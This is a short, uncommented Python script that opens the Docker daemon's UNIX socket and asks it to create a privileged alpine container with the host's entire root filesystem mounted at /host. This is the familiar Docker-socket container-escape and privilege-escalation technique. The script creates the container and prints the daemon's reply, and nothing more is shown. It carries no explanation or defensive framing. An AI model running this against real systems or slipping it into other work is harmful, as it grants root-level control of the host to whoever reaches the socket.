import http.client
import socket


class Docker(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")


d = Docker("localhost")
d.request("POST", "/containers/create", '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}', {"Content-Type": "application/json"})
print(d.getresponse().read())
